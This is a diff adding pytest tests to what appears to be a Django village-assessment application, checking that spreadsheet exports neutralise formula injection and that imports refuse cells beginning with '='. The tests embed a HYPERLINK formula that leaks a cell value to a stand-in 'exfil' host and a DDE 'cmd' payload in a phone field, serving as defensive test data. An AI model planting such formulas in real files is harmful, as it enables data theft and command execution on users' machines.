@@ -311,3 +311,50 @@ def test_exported_campaign_opens_in_libreoffice_and_re_imports(
         dry_run=True,
     )
     assert outcome.applied == 22
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/exfil?"&A2,"click")'
+
+
+def test_a_formula_typed_as_text_is_exported_as_text(client, people, campaign, xingou):
+    assessment = campaign.assessments.get(village=xingou)
+    answer_everything(people["secretary"], assessment)
+    services.submit_assessment(actor=people["secretary"], assessment_id=assessment.pk)
+    veto = criteria_of(campaign.standard)[1]
+    services.save_finding(
+        actor=people["town_office"],
+        assessment_id=assessment.pk,
+        criterion_id=veto.pk,
+        agrees=False,
+        veto_occurred=False,
+        comment=HOSTILE,
+    )
+    xingou.secretary_phone = "=cmd|'/c calc'!A1"
+    xingou.save(update_fields=["secretary_phone"])
+    client.force_login(people["town_office"])
+    for url in [
+        reverse("assessments:export_campaign", args=[campaign.pk, "findings"]),
+        reverse("villages:export"),
+    ]:
+        response = client.get(url)
+        book = openpyxl.load_workbook(io.BytesIO(response.content))
+        cells = [cell for row in book.active.iter_rows() for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], url
+        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+        assert HOSTILE in texts or "=cmd|'/c calc'!A1" in texts, url
+
+
+def test_a_text_cell_that_would_become_a_formula_is_refused_on_import(people, standards, xingou):
+    book = openpyxl.Workbook()
+    book.active.append(INCIDENT_HEADERS)
+    book.active.append([xingou.code, "新沟村", "命案", "2024-11-05", HOSTILE, ""])
+    book.active["E2"].data_type = "s"
+    buffer = io.BytesIO()
+    book.save(buffer)
+    with pytest.raises(SheetRefused, match="以“=”开头"):
+        import_incidents(
+            actor=people["town_office"],
+            upload=SimpleUploadedFile("表.xlsx", buffer.getvalue()),
+            dry_run=True,
+        )
+    assert not Incident.objects.exists()
